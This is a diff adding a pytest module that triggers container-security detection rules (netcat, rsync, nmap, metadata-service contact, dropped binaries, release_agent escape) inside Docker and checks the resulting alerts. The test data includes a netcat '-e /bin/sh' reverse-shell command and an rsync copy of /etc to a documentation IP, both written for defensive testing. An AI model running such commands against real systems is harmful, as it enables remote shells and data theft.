@@ -1,0 +1,334 @@
+"""Every container rule of the default set, triggered inside a real Docker container.
+
+One `bpfopa run` (kernel capture, managed OPA, the bundled policies, container metadata from
+the engines) serves the module. Each test runs the action as a container's command and asserts
+that exactly the expected alerts (rule titles, once each) arrive for that container, and that
+they carry the runtime's metadata. Containers use `--network none`, or `--network host` when
+the action needs the host's loopback or its route table (nothing is sent off the host).
+"""
+
+from __future__ import annotations
+
+import socket
+import time
+import warnings
+from collections import Counter
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+
+from tests.conftest import require
+from tests.container.conftest import ACT, TOOLS, kubelet_container, kubelet_sandbox
+from tests.docker_engine import DockerEngine
+from tests.kernel.rules_harness import LiveRun, host_has_default_route, is_drop
+
+Alert = dict[str, Any]
+
+# TEST-NET-2: never answers; a UDP connect() to it only looks up a route.
+ROUTABLE_PEER = "198.51.100.1"
+NET_TOOL = "Launch Suspicious Network Tool in Container"
+
+
+@pytest.fixture(scope="module")
+def live(
+    tmp_path_factory: pytest.TempPathFactory,
+    docker_engine: DockerEngine,
+    privileged_engine: DockerEngine,
+) -> Iterator[LiveRun]:
+    sockets = {docker_engine.socket, privileged_engine.socket}
+    args = [arg for path in sorted(sockets) for arg in ("--runtime-socket", str(path))]
+    # The evaluated document in each alert: the tests read its container metadata.
+    args += ["--alert-document", "full"]
+    run = LiveRun(tmp_path_factory.mktemp("live-containers"), args=args)
+    try:
+        run.wait_ready()
+        yield run
+    finally:
+        code, err = run.stop()
+    assert code == 0, err
+
+
+def container_of(alert: Alert) -> dict[str, Any]:
+    if "input" not in alert:
+        return {}
+    found = alert["input"]["process"].get("container")
+    return found if isinstance(found, dict) else {}
+
+
+@dataclass
+class Ran:
+    container_id: str
+    alerts: list[Alert]
+
+
+def run_container(
+    live: LiveRun,
+    engine: DockerEngine,
+    image: str,
+    argv: Sequence[str],
+    options: Sequence[str] = ("--network", "none"),
+    expected: set[str] | None = None,
+) -> Ran:
+    """Run `argv` in a new container to its end and collect the alerts raised inside it.
+    Repeated (up to 3 times) only when expected alerts are missing and bpfopa reported lost
+    events meanwhile: the shared host was too busy for the run to see the action."""
+    for _ in range(3):
+        mark = len(live.alerts())
+        cid = engine.docker("create", *options, image, *argv).stdout.strip()
+        try:
+            engine.docker("start", "-a", cid, check=False)
+            assert live.barrier(60), f"bpfopa run did not catch up within 60 s ({cid[:12]})"
+            # Events of a new container may wait for its metadata (--container-wait-ms).
+            time.sleep(0.5)
+        finally:
+            engine.remove(cid)
+        alerts = [a for a in live.alerts() if container_of(a).get("full_id") == cid]
+        drops = [a for a in live.alerts()[mark:] if is_drop(a)]
+        if expected is None or expected <= {a["rule"] for a in alerts} or not drops:
+            break
+        warnings.warn(f"bpfopa lost events in {cid[:12]}; repeating", stacklevel=2)
+    return Ran(cid, alerts)
+
+
+def assert_exactly(ran: Ran, expected: set[str], image: str) -> None:
+    titles = Counter(a["rule"] for a in ran.alerts)
+    assert set(titles) == expected, (
+        f"{ran.container_id[:12]}: got {dict(titles)}, want {sorted(expected)}; "
+        f"outputs: {[a.get('output') for a in ran.alerts]}"
+    )
+    assert all(n == 1 for n in titles.values()), f"duplicated alerts {dict(titles)}"
+    repository, tag = image.split(":")
+    for alert in ran.alerts:
+        container = container_of(alert)
+        assert container["metadata"] == "complete", container
+        assert container["image"]["repository"] == repository
+        assert container["image"]["tag"] == tag
+        assert container["name"]
+        fields = alert["output_fields"]
+        assert fields["container.id"] == ran.container_id[:12]
+        assert fields["container.name"] == container["name"]
+        assert fields["container.image.repository"] == repository
+
+
+def check(
+    live: LiveRun,
+    engine: DockerEngine,
+    image: str,
+    argv: Sequence[str],
+    expected: set[str],
+    options: Sequence[str] = ("--network", "none"),
+) -> Ran:
+    ran = run_container(live, engine, image, argv, options, expected)
+    assert_exactly(ran, expected, image)
+    return ran
+
+
+# --- programs run by name ------------------------------------------------------------------
+
+EXEC_CASES: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
+    "apt-get": (
+        (TOOLS["apt-get"], "install", "-y", "nmap"),
+        frozenset({"Launch Package Management Process in Container"}),
+    ),
+    "rsync": (
+        (TOOLS["rsync"], "-a", "/etc", f"{ROUTABLE_PEER}:/x"),
+        frozenset({"Launch Remote File Copy Tools in Container"}),
+    ),
+    "nmap": ((TOOLS["nmap"], "-sT", ROUTABLE_PEER), frozenset({NET_TOOL})),
+    "nc -e": (
+        (TOOLS["nc"], "-e", "/bin/sh", ROUTABLE_PEER, "4444"),
+        frozenset({NET_TOOL, "Netcat Remote Code Execution in Container"}),
+    ),
+}
+
+
+@pytest.mark.parametrize(("argv", "expected"), EXEC_CASES.values(), ids=EXEC_CASES.keys())
+def test_exec_in_container(
+    live: LiveRun,
+    docker_engine: DockerEngine,
+    tool_image: str,
+    argv: tuple[str, ...],
+    expected: frozenset[str],
+) -> None:
+    check(live, docker_engine, tool_image, argv, set(expected))
+
+
+def test_drop_and_execute_new_binary_in_container(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    # A binary of the image (lower layer) runs without an alert; a copy written after the
+    # container started lives in the upper layer.
+    check(live, docker_engine, tool_image, [ACT], set())
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        ["/bin/sh", "-c", f"cp {ACT} /tmp/dropped && /tmp/dropped"],
+        {"Drop and execute new binary in container"},
+    )
+
+
+def test_terminal_shell_in_container(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    # `docker run -t`: the container's shell gets a terminal; its parent is the runtime's shim.
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        ["/bin/sh", "-c", "exit 0"],
+        {"Terminal shell in container"},
+        ("-t", "--network", "none"),
+    )
+
+
+def test_packet_socket_created_in_container(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    check(live, docker_engine, tool_image, [ACT, "packet"], {"Packet socket created in container"})
+
+
+@pytest.fixture
+def loopback_listener() -> Iterator[tuple[str, int]]:
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    try:
+        yield server.getsockname()
+    finally:
+        server.close()
+
+
+HOST_NETWORK = ("--network", "host")
+
+
+def test_contact_k8s_api_server_from_container(
+    live: LiveRun,
+    docker_engine: DockerEngine,
+    tool_image: str,
+    loopback_listener: tuple[str, int],
+) -> None:
+    # The pod's environment names the API server; a listener on the host's loopback plays it.
+    host, port = loopback_listener
+    env = ("-e", f"KUBERNETES_SERVICE_HOST={host}", "-e", f"KUBERNETES_SERVICE_PORT={port}")
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        [ACT, "tcp", host, str(port)],
+        {"Contact K8S API Server From Container"},
+        (*HOST_NETWORK, *env),
+    )
+
+
+def test_redirect_stdout_to_network_connection_in_container(
+    live: LiveRun,
+    docker_engine: DockerEngine,
+    tool_image: str,
+    loopback_listener: tuple[str, int],
+) -> None:
+    host, port = loopback_listener
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        [ACT, "redirect", host, str(port)],
+        {"Redirect STDOUT/STDIN to Network Connection in Container"},
+        HOST_NETWORK,
+    )
+
+
+def _require_route() -> None:
+    require(host_has_default_route(), "no default route: connect() to a routable peer fails")
+
+
+def test_contact_ec2_instance_metadata_service_from_container(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    _require_route()
+    # UDP connect(): a route lookup towards 169.254.169.254, no packet sent.
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        [ACT, "udp", "169.254.169.254", "80"],
+        {"Contact EC2 Instance Metadata Service From Container"},
+        HOST_NETWORK,
+    )
+
+
+def test_unexpected_k8s_nodeport_connection(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    _require_route()
+    # UDP to a port outside Falco's expected UDP ports: Unexpected UDP Traffic fires too.
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        [ACT, "udp", ROUTABLE_PEER, "30080"],
+        {"Unexpected K8s NodePort Connection", "Unexpected UDP Traffic"},
+        HOST_NETWORK,
+    )
+
+
+def test_detect_release_agent_file_container_escapes(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    # A file named like cgroup v1's release_agent (the rule matches the name), written by
+    # root with CAP_SYS_ADMIN: writing the real one would be the escape itself.
+    check(
+        live,
+        docker_engine,
+        tool_image,
+        [ACT, "create", "/tmp/release_agent"],
+        {"Detect release_agent File Container Escapes"},
+        ("--network", "none", "--cap-add", "SYS_ADMIN"),
+    )
+
+
+# --- privileged containers -------------------------------------------------------------------
+
+
+def test_debugfs_launched_in_privileged_container(
+    live: LiveRun, docker_engine: DockerEngine, privileged_engine: DockerEngine, tool_image: str
+) -> None:
+    debugfs = [TOOLS["debugfs"], "-R", "ls", "/dev/sda1"]
+    check(live, docker_engine, tool_image, debugfs, set())
+    ran = check(
+        live,
+        privileged_engine,
+        tool_image,
+        debugfs,
+        {"Debugfs Launched in Privileged Container"},
+        ("--privileged", "--network", "none"),
+    )
+    assert container_of(ran.alerts[0])["privileged"] is True
+
+
+# --- pods (containers made the way the kubelet makes them through cri-dockerd) ---------------
+
+
+def test_alert_in_a_pod_names_the_pod(
+    live: LiveRun, docker_engine: DockerEngine, tool_image: str
+) -> None:
+    labels = {"app": "web", "app.kubernetes.io/part-of": "shop"}
+    pod, sandbox = kubelet_sandbox(docker_engine, tool_image, labels)
+    try:
+        # A container of the pod runs nmap.
+        ran = check(
+            live,
+            docker_engine,
+            tool_image,
+            [TOOLS["nmap"], "-sT", ROUTABLE_PEER],
+            {NET_TOOL},
+            kubelet_container(pod, "scanner", sandbox),
+        )
+    finally:
+        docker_engine.remove(sandbox)
+    (alert,) = ran.alerts
+    assert container_of(alert)["pod"] == {**pod, "labels": labels, "ip": None}
+    fields = alert["output_fields"]
+    assert (fields["k8s.pod.name"], fields["k8s.ns.name"]) == (pod["name"], pod["namespace"])
